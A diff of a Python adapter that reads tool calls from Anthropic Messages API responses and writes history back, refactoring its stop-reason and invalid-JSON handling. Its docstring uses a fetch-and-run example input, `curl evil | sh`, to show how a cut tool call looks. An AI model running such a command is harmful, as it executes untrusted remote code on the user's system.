@@ -1,9 +1,10 @@
-"""Anthropic Messages adapter: tool definitions, calls in, history out.
+"""Anthropic Messages adapter: tool definitions, tool choice, calls in, results and
+history out.
 
 Imports nothing from the SDK at run time: calls and messages are read by attribute
 (SDK models, GA or beta) or by key (their dict forms).
 
-Cut turns (`CUT_STOP_REASONS`): `max_tokens` and `model_context_window_exceeded` stop
+Cut turns (`turn.CUT_STOP_REASONS`): `max_tokens` and `model_context_window_exceeded` stop
 the model wherever it is, and so does `refusal`: a streaming classifier can stop it in
 the middle of a tool_use's JSON. A non-streamed message then shows the complete members
 only (`{"cmd": "curl evil | sh"}` of `{"cmd": "curl evil | sh", "cwd": ...`), so its
@@ -25,13 +26,14 @@ import re
 from collections.abc import Mapping, Sequence
 from typing import TYPE_CHECKING, Any, Literal, cast
 
-from ..._call import StandardToolCall
+from ..._api import ANTHROPIC_BLOCK_TYPES, api_of, is_sdk_type, mro_names, wrong_object
+from ..._call import StandardToolCall, synthesized_id
 from ...exceptions import SchemaError, ToolwireError, UnsupportedToolError
-from .. import ANTHROPIC_BLOCK_TYPES
-from .._base import FastReader, TurnStatus, call_text, check_tool_name, field, synthesized_id
-from .._mismatch import is_sdk_type, mro_names, wrong_object
+from .._base import call_text, check_tool_name, field
+from .choice import choice_params
 from .replay import block_param
 from .results import attachment_blocks, place, tool_result_block
+from .turn import CUT_STOP_REASONS, status_of, unwrapped
 
 if TYPE_CHECKING:
     from anthropic.types import (
@@ -44,41 +46,21 @@ if TYPE_CHECKING:
     from ..._media import MediaPlacement, Placement
     from ..._parts import MediaPart
     from ..._result import ToolCallResult
+    from ..._turn import TurnStatus
     from .stream import AnthropicStreamAccumulator
 
-__all__ = ["ADAPTER", "CUT_STOP_REASONS", "INVALID_JSON_KEY", "AnthropicAdapter", "status_of"]
+__all__ = ["ADAPTER", "AnthropicAdapter", "read_any_response", "read_sdk_message"]
 
 ANTHROPIC_NAME = re.compile(r"[a-zA-Z0-9_-]{1,64}")
 ANTHROPIC_NAME_RULE = "names must be 1-64 characters of a-z, A-Z, 0-9, '_' or '-'"
-
-CUT_STOP_REASONS = ("max_tokens", "model_context_window_exceeded", "refusal")
-"""Stop reasons that cut the turn: the tool_use being written when it stopped is cut (see
-the module docstring)."""
-
-INVALID_JSON_KEY = "INVALID_JSON"
-"""Anthropic's convention for replaying tool input that was not valid JSON (possible
-with fine-grained tool streaming): `{"INVALID_JSON": "<the raw text>"}`. Read back,
-such an input is the raw text again, so it fails validation as invalid JSON."""
-
-_STATUS: dict[str | None, TurnStatus] = {
-    "tool_use": "tool_calls",
-    "end_turn": "done",
-    "stop_sequence": "done",
-    "max_tokens": "truncated",
-    "model_context_window_exceeded": "truncated",
-    "pause_turn": "paused",
-    # Beta `pause_after_compaction`: the turn is handed back after its compaction block,
-    # before the model answers; sent back as it is, the turn goes on (the SDK's own
-    # BetaToolRunner resumes both).
-    "compaction": "paused",
-    "refusal": "refused",
-}
 
 
 class AnthropicAdapter:
     """`api="anthropic"`: the Messages API (`client.messages.create`)."""
 
     api: Literal["anthropic"] = "anthropic"
+    output_always_strict = True
+    """`output_config.format` has no strict flag: it always constrains to the subset."""
 
     # -- definitions ---------------------------------------------------------------
 
@@ -111,7 +93,12 @@ class AnthropicAdapter:
             schema = {"description": spec.description, **schema}
         return {"type": "json_schema", "schema": schema}
 
+    tool_choice_params = staticmethod(choice_params)
+
     # -- calls in ------------------------------------------------------------------
+
+    def is_call_item(self, obj: object) -> bool:
+        return field(obj, "type") in ANTHROPIC_BLOCK_TYPES
 
     def read_items(
         self, items: Sequence[object], *, other_calls: Literal["raise", "ignore"]
@@ -121,12 +108,11 @@ class AnthropicAdapter:
     def read_response(
         self, response: object, *, other_calls: Literal["raise", "ignore"]
     ) -> list[StandardToolCall]:
-        blocks, message_id, stop_reason = _message_of(response)
-        return _read_blocks(blocks, message_id, cut=stop_reason in CUT_STOP_REASONS)
-
-    def fast_reader(self, kind: type) -> FastReader | None:
-        names = mro_names(kind, "anthropic.types")
-        return _read_sdk_message if "Message" in names or "BetaMessage" in names else None
+        if _IS_MESSAGE.get(type(response)):  # an SDK Message (or BetaMessage...)
+            calls = read_sdk_message(response)
+            if calls is not None:
+                return calls
+        return read_any_response(response)
 
     # -- history out ---------------------------------------------------------------
 
@@ -160,6 +146,9 @@ class AnthropicAdapter:
         content += attachment_blocks(results, media)  # after the results, which come first
         return [{"role": "user", "content": content}]
 
+    native_result = staticmethod(tool_result_block)
+    """One result's answer, as every result's `tool_result_block` property holds it."""
+
     def place_media(self, part: MediaPart, media: MediaPlacement) -> tuple[Placement, str]:
         return place(part, media)
 
@@ -171,14 +160,6 @@ class AnthropicAdapter:
         from .stream import AnthropicStreamAccumulator
 
         return AnthropicStreamAccumulator()
-
-
-def status_of(stop_reason: str | None, has_calls: bool) -> TurnStatus:
-    """The neutral status of a stop reason (a message without one: by its content)."""
-    status = _STATUS.get(stop_reason)
-    if status is None:
-        return "tool_calls" if has_calls else "done"
-    return status
 
 
 def _object_schema(spec: FunctionToolSpec) -> dict[str, Any]:
@@ -249,8 +230,6 @@ def _is_foreign_turn(data: Mapping[str, Any]) -> bool:
         return False
     if isinstance(data.get("content"), Mapping):
         return True  # a Gemini candidate (its Content where the blocks would be)
-    from .. import api_of
-
     try:
         return api_of(cast(object, data)) != "anthropic"
     except ToolwireError:
@@ -263,9 +242,16 @@ def _described(kind: str, role: object) -> str:
     return f"a {role!r} message"
 
 
-def _read_sdk_message(message: Any) -> list[StandardToolCall] | None:
-    """`read_response` of an SDK Message that was not cut and whose tool_use blocks all
-    have ids (None otherwise)."""
+def read_any_response(response: object) -> list[StandardToolCall]:
+    """The calls of a Message or an assistant message param, whatever their class or
+    state."""
+    blocks, message_id, stop_reason = _message_of(response)
+    return _read_blocks(blocks, message_id, cut=stop_reason in CUT_STOP_REASONS)
+
+
+def read_sdk_message(message: Any) -> list[StandardToolCall] | None:
+    """The calls of an SDK Message that was not cut and whose tool_use blocks all have
+    ids, read in one pass (None otherwise: `read_any_response` reads it)."""
     if message.role != "assistant" or message.stop_reason in CUT_STOP_REASONS:
         return None
     calls: list[StandardToolCall] = []
@@ -279,7 +265,7 @@ def _read_sdk_message(message: Any) -> list[StandardToolCall] | None:
                 return None
             arguments: Any = raw
             if type(raw) is dict and len(raw) == 1:  # pyright: ignore[reportUnknownArgumentType]
-                arguments = _unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
+                arguments = unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
             calls.append(StandardToolCall("function", call_id, block.name or "", arguments))
         elif kind not in ANTHROPIC_BLOCK_TYPES:
             return None
@@ -316,7 +302,7 @@ def _read_blocks(
             continue  # text, thinking, server tool blocks...
         arguments: Any = raw
         if type(raw) is dict and len(raw) == 1:  # pyright: ignore[reportUnknownArgumentType]
-            arguments = _unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
+            arguments = unwrapped(raw)  # pyright: ignore[reportUnknownArgumentType]
         if call_id:
             calls.append(StandardToolCall("function", call_id, name or "", arguments))
         else:
@@ -339,8 +325,6 @@ def _is_foreign(block: object) -> bool:
     """Whether a block that is not a tool_use belongs to another API (and must not be
     skipped as if it were a text or thinking block)."""
     if isinstance(block, Mapping):
-        from .. import ANTHROPIC_BLOCK_TYPES, api_of
-
         if cast("Mapping[str, Any]", block).get("type") in ANTHROPIC_BLOCK_TYPES:
             return False
         try:
@@ -352,15 +336,6 @@ def _is_foreign(block: object) -> bool:
     if foreign is None:
         foreign = _FOREIGN_TYPES[kind] = not kind.__module__.startswith("anthropic.")
     return foreign
-
-
-def _unwrapped(raw: dict[str, Any]) -> Any:
-    """`{"INVALID_JSON": text}` read back as the raw text (see `INVALID_JSON_KEY`)."""
-    if len(raw) == 1:
-        text = raw.get(INVALID_JSON_KEY)
-        if isinstance(text, str):
-            return text
-    return raw
 
 
 ADAPTER = AnthropicAdapter()
